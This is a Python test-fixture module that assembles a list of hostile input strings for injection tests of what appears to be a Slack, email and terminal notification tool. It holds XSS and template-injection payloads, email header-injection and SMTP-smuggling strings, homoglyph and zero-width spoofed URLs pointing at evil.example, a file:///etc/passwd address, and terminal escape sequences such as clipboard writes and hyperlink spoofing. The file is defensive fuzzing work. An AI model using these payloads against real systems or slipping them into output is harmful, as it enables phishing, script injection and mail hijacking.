"""Hostile strings of our own: each tries to be more than text somewhere. Judged in `test_injection.py`.

`INJECTIONS` is the list; what is made of parts (every mention in several disguises) is made here, so that the
list is the same in every run.
"""
# ruff: noqa: E501 - long texts stay on one line

from __future__ import annotations

from itertools import chain

from tests.contracts.hostile import HOSTILE, LINKS

_ENTITIES = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|see this>", "<!subteam^S0EVIL>", "<!subteam^S0EVIL|@all>",
    "<!date^1700000000^{date_long}|then>", "<!date^1700000000^{date}^https://evil.example/x|then>",
    "<@U0EVIL>", "<@W0EVIL|ana>", "<#C0EVIL>", "<#C0EVIL|general>",
    "<https://evil.example/login|https://bank.example>", "<https://evil.example>", "<mailto:a@evil.example|ben>",
    "<tel:+4912345|call>", "<slack://open?team=T1|open>", "<javascript:alert(1)|x>", "<//evil.example|bank.example>",
)  # fmt: skip

_FORMS = (
    "*all bold*", "_all slanted_", "~struck~", "`code`", "```a block\nof code```", "> quoted", ">>> all quoted",
    "*bold\nover lines*", "* not bold *", "a*b*c", "**double**", "__double__", "~~double~~", "*_~`all`~_*",
    "1. one\n2. two", "- one\n- two", "# heading", "[words](https://evil.example)", "[bank.example](https://evil.example)",
    "![](https://evil.example/pixel.png)", "<b>bold</b>", "|cell|cell|\n|---|---|", "---", "\\*kept\\*",
)  # fmt: skip

_EMOJI = (
    ":skull:", ":rotating_light: all clear :rotating_light:", ":wave::skin-tone-6:", ":+1:", ":-1:", ":100:",
    ":white_check_mark: verified", "a:smile:b", ":custom-emoji_1:", ":o:o:", "10:40:20", "::", ":not an emoji:",
)  # fmt: skip

_ADDRESSES = (
    "https://evil.example/a", "HTTPS://EVIL.EXAMPLE/A", "http:evil.example", "https:/evil.example", "https:\\\\evil.example",
    "https://bank.example@evil.example/", "https://bank.example%00@evil.example/", "www.evil.example", "WWW.EVIL.EXAMPLE/x",
    "ftp://evil.example/x", "file:///etc/passwd", "smb://evil.example/x", "javascript://evil.example/%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "mailto:evil@evil.example?subject=x", "evil@evil.example", "tel:+4912345",
    "xmpp:evil@evil.example", "https://xn--bnk-5cd.example/", "https://b\u0430nk.example/", "https://bank\u3002example/",
    "https://evil\u2024example/", "\uff48\uff54\uff54\uff50\uff53://evil.example", "https://[::1]/x", "https://0x7f.1/",
    "https://evil.example/\u200b", "ht\u200btps://evil.example/", "https\u200b://evil.example", "https://evil.exa\u00admple/",
    "h\u2060ttps://evil.example/", "www\u200b.evil.example", "e\u200bvil@evil.example", "(https://evil.example)",
    "\u201chttps://evil.example\u201d", "x=https://evil.example", "https://evil.example:443", "https://evil.example?x=<!channel>",
    "https://evil.example/" + "a" * 3000,
)  # fmt: skip

_PAGES = (
    "<script src=//evil.example/x.js></script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<img src=https://evil.example/pixel>", "<img/src/onerror=alert(1)>",
    "<image xlink:href=x onerror=1>", "<svg><use href=//evil.example/x.svg#y>", "<svg><animate onbegin=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>", "<a href=//evil.example>bank.example</a>",
    "<a href=&#106;avascript:alert(1)>x</a>", "<a target=_blank ping=//evil.example>x</a>", "<button formaction=//evil.example>",
    "<isindex action=//evil.example>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>", "<html manifest=x>",
    "<table background=//evil.example/x>", "<div style=background:url(//evil.example)>", "<template><script>1</script></template>",
    "<frameset onload=1>", "<dialog open>", "<input autofocus onfocus=alert(1)>", "<select onchange=1>", "<keygen autofocus onfocus=1>",
    "</title><script>1</script>", "</style><script>1</script>", "</mark></h1><script>1</script>", "--><script>1</script><!--",
    "\"autofocus onfocus=\"alert(1)", "'autofocus onfocus='alert(1)", "`onmouseover=alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;", "&#x3c;script&#x3e;", "&NewLine;&Tab;&colon;", "\\u003cscript\\u003e", "%3Cscript%3E", "\uff1cscript\uff1e",
    "<\x00script>alert(1)</script>", "<\u200bscript>", "<scri\u00adpt>", "+ADw-script+AD4-", "{{constructor.constructor('1')()}}",
    "{{ alert.link.url }}", "{% include 'alert.html' %}", "{# x #}", "%(subject)s {0.__class__} $subject", "<?xml version='1.0'?><x/>",
    "<!--[if mso]><x><![endif]-->", "<o:p></o:p>", "<v:rect fill=x>", "<math href=javascript:alert(1)>x</math>",
)  # fmt: skip

_MAILS = (
    "x\r\nTo: evil@evil.example", "x\r\nCc: evil@evil.example", "x\nX-Priority: 1", "x\rSubject: other", "x\r\n\tBcc: evil@evil.example",
    "x\n Bcc: evil@evil.example", "x\r\n\r\nbody", "\r\nContent-Type: text/html\r\n\r\n<b>x</b>", "\nMIME-Version: 1.0", "x\x0bBcc: e@evil.example",
    "x\x0cBcc: e@evil.example", "x\x1eBcc: e@evil.example", "x\x85Bcc: e@evil.example", "x\u2028Bcc: e@evil.example", "x\u2029Bcc: e@evil.example",
    "=?utf-8?q?=0ABcc:_evil@evil.example?=", "=?utf-8?Q?=0D=0A=0D=0A<b>x</b>?=", "=?iso-8859-1?q?=0ATo=3A_x?=", "=?utf-8?b?CkJjYzogZXZpbEBldmlsLmV4YW1wbGU=?=",
    "=?utf-16?b?AAo=?=", "=?utf-8*en?q?x?=", "=?utf-8?q?a?= =?utf-8?q?b?=", "=?utf-8?x?x?=", "=?utf-8?q?", "?==?utf-8?q?x?=", "= ?utf-8?q?x?=",
    "=?utf-8?q?<evil@evil.example>?=", "=?unknown?q?x?=", "\u0434=?utf-8?q?=0AX:_y?=\u0434", "=\u200b?utf-8?q?=0AX:_y?=", "=?utf-8?q?=1B[31m?=",
    "x\r\n.\r\nRCPT TO:<evil@evil.example>", ".", "..", ".\n.", "\r\n.\r\nQUIT", "RSET", "-- \nsignature", "begin 644 x.exe", "--boundary--",
    "Content-Transfer-Encoding: base64", "From evil@evil.example Mon", ">From x", "evil@evil.example, ben@example.org", "<evil@evil.example>",
    '"Watchword" <watchword@example.org>', "(comment) x", "undisclosed:;", "a" * 998, "\u0434" * 999, "a " * 2000, "\u3000" * 50 + "x",
)  # fmt: skip

_TERMINALS = (
    "\x1b[2J", "\x1b[H\x1b[J", "\x1b[1A\x1b[2Kall clear", "\x1b[8mhidden\x1b[28m", "\x1b[?1049h", "\x1b[6n", "\x1b[c", "\x1b[5i", "\x1b]0;x\x07",
    "\x1b]2;x\x1b\\", "\x1b]4;1;?\x07", "\x1b]8;;https://evil.example\x07bank.example\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x1b\\", "\x1b]1337;File=:x\x07",
    "\x1b]777;notify;x;y\x07", "\x1bPq#0\x1b\\", "\x1bP$qm\x1b\\", "\x1b_Gf=100;x\x1b\\", "\x1b^x\x1b\\", "\x1bX x\x1b\\", "\x1bc", "\x1b#8", "\x1b(0lqk\x1b(B",
    "\x9b2J", "\x9d0;x\x9c", "\x90q\x9c", "\x84\x85\x8d", "\x07\x07\x07", "safe\x08\x08\x08\x08evil", "safe\revil", "\x0e\x0f", "\x7f\x7f", "a\tb", "a\vb\fc",
    "\n\u2503 a line of its own", "\u250f\u2501 CRITICAL \u2501\u2501", "\u2517\u2501\u2501\n\u250f\u2501 HIGH", "[red]x[/red]", "[bold]x", "[/]", "[link=https://evil.example]x[/link]",
    "[@click=app.quit]x[/]", "[on white]x[/on white]", "\\[red]x", ":warning:", "\\x1b[31m", "^[[31m", "\u241b[31m", "%1b[31m",
)  # fmt: skip

_SIGNS = (
    "\x00", "a\x00b", "\x01\x02\x03", "\ud800", "\udc00\ud800", "a\udfffb", "\ufffe", "\uffff", "\U0010ffff", "\ufeff", "\ufffd", "\u00ad" * 40,
    "\u200b" * 100, "a\u200bb", "\u200c\u200d", "\u2060\u2061\u2062\u2063\u2064", "\u180e", "\u115f\u1160", "\u3164", "\u2800" * 5, "\u034f", "\ufe0f",
    "\U000e0001\U000e0065\U000e0076", "\U000e0100", "\u202eevil\u202c", "\u202dexe.gpj", "\u202axx", "\u202bxx", "\u2066xx", "\u2067xx", "\u2068xx", "xx\u2069", "\u2069\u202e\u2066x",
    "\u061c\u200e\u200f", "\u05d0\u202ex", "\u0627\u2067\u0628", "\u05d0 (x) \u05d1", "\u206a\u206b\u206c\u206d\u206e\u206f", "\ufff9x\ufffay\ufffb", "e" + "\u0301" * 3000,
    "\u0e01" + "\u0e47" * 2000, "\ufdfa" * 400, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300, "\U0001f1e9" * 999, "x" * 100_000, "x " * 50_000, "\u4e00" * 20_000,
    "\u0130stanbul \u0131\u017f\u00df", "\u2024\u2025\u2026", "\u2215\u2044\u29f8", "\u00a0\u2007\u202f", "\n\n\n\n", "", " ", "\t", "0", "null", "None", "true", "-1", "{}", "[]",
)  # fmt: skip


def _disguised() -> tuple[str, ...]:
    """Give each entity of Slack's as its mark-up reads it only after somebody unescapes, joins or trims."""
    found: list[str] = []
    for entity in _ENTITIES:
        escaped = entity.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        found += [entity, f"before {entity} after", escaped, f"*{entity}*", entity.replace("<", "<\u200b")]
    return tuple(found)


INJECTIONS: tuple[str, ...] = tuple(
    dict.fromkeys(
        chain(_disguised(), _FORMS, _EMOJI, _ADDRESSES, _PAGES, _MAILS, _TERMINALS, _SIGNS, LINKS, HOSTILE)
    )
)
